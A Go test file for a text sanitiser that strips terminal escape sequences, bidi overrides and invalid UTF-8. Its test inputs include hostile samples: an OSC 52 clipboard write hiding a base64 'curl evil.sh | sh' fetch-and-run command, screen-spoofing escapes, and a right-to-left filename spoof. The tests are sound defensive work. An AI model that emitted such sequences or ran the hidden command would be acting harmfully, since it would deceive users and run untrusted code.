package sanitize

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestLineAndText(t *testing.T) {
	long := strings.Repeat("ab", 200)
	tests := []struct {
		name, in string
		max      int
		line     string
		text     string
	}{
		{"plain", "Contoso Ltd", Screen, "Contoso Ltd", "Contoso Ltd"},
		{"tab kept", "a\tb", Screen, "a\tb", "a\tb"},
		{"newline", "one\ntwo", Screen, "one two", "one\ntwo"},
		{"crlf and lone cr", "a\r\nb\rFAKE-OK", Screen, "a  b FAKE-OK", "a\nb\nFAKE-OK"},
		{"OSC 52 clipboard write", "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07y", Screen, "x]52;c;Y3VybCBldmlsLnNoIHwgc2gKy", "x]52;c;Y3VybCBldmlsLnNoIHwgc2gKy"},
		{"title and clear screen", "\x1b]0;pwned\x1b\\\x1b[2J\x1b[32mFAKE-OK", Screen, "]0;pwned\\[2J[32mFAKE-OK", "]0;pwned\\[2J[32mFAKE-OK"},
		{"8-bit CSI and OSC", "a\u009b2Jb\u009d8;;http://x\u009c", Screen, "a2Jb8;;http://x", "a2Jb8;;http://x"},
		{"BEL backspace DEL NUL", "a\x07\x08\x7f\x00b", Screen, "ab", "ab"},
		{"bidi override and isolates", "txt.\u202eexe\u2066x\u2069\u202a\u202c", Screen, "txt.exex", "txt.exex"},
		{"unicode line separators", "a\u2028b\u2029c", Screen, "a b c", "a\nb\nc"},
		{"invalid UTF-8", "a\xffb\xc3", Screen, "a\uFFFDb\uFFFD", "a\uFFFDb\uFFFD"},
		{"accents and emoji kept", "Société Générale 🛡", Screen, "Société Générale 🛡", "Société Générale 🛡"},
		{"clipped", long, 10, "ababababa…", "ababababa…"},
		{"exactly max", "abcde", 5, "abcde", "abcde"},
		{"max after dropping controls", "abc\x1b\x1b", 3, "abc", "abc"},
		{"clipped multibyte", "ééééé", 3, "éé…", "éé…"},
		{"max one", "ab", 1, "…", "…"},
		{"max zero", "ab", 0, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Line(tt.in, tt.max); got != tt.line {
				t.Errorf("Line(%q, %d) = %q, want %q", tt.in, tt.max, got, tt.line)
			}
			if got := Text(tt.in, tt.max); got != tt.text {
				t.Errorf("Text(%q, %d) = %q, want %q", tt.in, tt.max, got, tt.text)
			}
		})
	}
}

func TestQuote(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Contoso", `"Contoso"`},
		{"curl https://x | sh\x1b[8m", `"curl https://x | sh\x1b[8m"`},
		{"a\u202eb\u009b", `"a\u202eb\u009b"`},
		{"a\xffb", `"a\xffb"`},
		{"line\nbreak", `"line\nbreak"`},
		{strings.Repeat("x", Screen+5), `"` + strings.Repeat("x", Screen) + `"`},
	}
	for _, tt := range tests {
		if got := Quote(tt.in); got != tt.want {
			t.Errorf("Quote(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
}

func TestValidName(t *testing.T) {
	tests := []struct {
		in   string
		want string // part of the error, "" for valid
	}{
		{"Contoso Ltd", ""},
		{"", ""},
		{"Société Générale (EU) #2", ""},
		{strings.Repeat("é", MaxName), ""},
		{strings.Repeat("é", MaxName+1), "129 characters long"},
		{"a\x1b]52;c;x\x07", "control character (U+001B) at byte 1"},
		{"a\tb", "control character (U+0009)"},
		{"a\nb", "control character (U+000A)"},
		{"a\u0085b", "control character (U+0085)"},
		{"a\u2028b", "control character (U+2028)"},
		{"a\u009bb", "control character (U+009B)"},
		{"invoice\u202Efdp.exe", "bidirectional text control (U+202E)"},
		{"x\u2066", "bidirectional text control (U+2066)"},
		{"a\xffb", "not valid UTF-8"},
	}
	for _, tt := range tests {
		err := ValidName(tt.in)
		switch {
		case tt.want == "" && err != nil:
			t.Errorf("ValidName(%q) = %v, want nil", tt.in, err)
		case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
			t.Errorf("ValidName(%q) = %v, want %q", tt.in, err, tt.want)
		case err != nil && len(tt.in) > 3 && strings.Contains(err.Error(), tt.in):
			t.Errorf("ValidName(%q) repeats the name: %v", tt.in, err)
		}
	}
}

// FuzzSanitize checks the promises for any input: nothing a terminal acts on
// survives, the length is bounded, and sanitising twice changes nothing.
func FuzzSanitize(f *testing.F) {
	for _, s := range []string{"", "plain", "\x1b]52;c;eA==\x07", "a\r\nb\r", "\u202e\u2069\u009b\u0085", "\xff\xfe", "ééé…", "\u2028\t"} {
		f.Add(s, 5)
		f.Add(s, Screen)
	}
	f.Fuzz(func(t *testing.T, s string, limit int) {
		limit %= 400
		for _, c := range []struct {
			name     string
			fn       func(string, int) string
			newlines bool
		}{{"Line", Line, false}, {"Text", Text, true}} {
			out := c.fn(s, limit)
			checkInert(t, c.name, out, c.newlines)
			if n := utf8.RuneCountInString(out); n > max(limit, 0) {
				t.Fatalf("%s(%q, %d) has %d runes", c.name, s, limit, n)
			}
			if again := c.fn(out, limit); again != out {
				t.Fatalf("%s is not idempotent: %q -> %q -> %q", c.name, s, out, again)
			}
		}
		q := Quote(s)
		checkInert(t, "Quote", q, false)
		if strings.ContainsAny(q, "\t") || len(q) > 10*Screen+2 {
			t.Fatalf("Quote(%q) = %q", s, q)
		}
		if err := ValidName(s); err == nil && Line(s, MaxName) != s {
			t.Fatalf("ValidName accepts %q, which Line changes to %q", s, Line(s, MaxName))
		}
	})
}

func checkInert(t *testing.T, name, out string, newlines bool) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("%s: %q is not valid UTF-8", name, out)
	}
	for _, r := range out {
		if r == '\t' || (r == '\n' && newlines) {
			continue
		}
		if isControl(r) || isBidi(r) || isLineSeparator(r) {
			t.Fatalf("%s: %q keeps U+%04X", name, out, r)
		}
	}
}
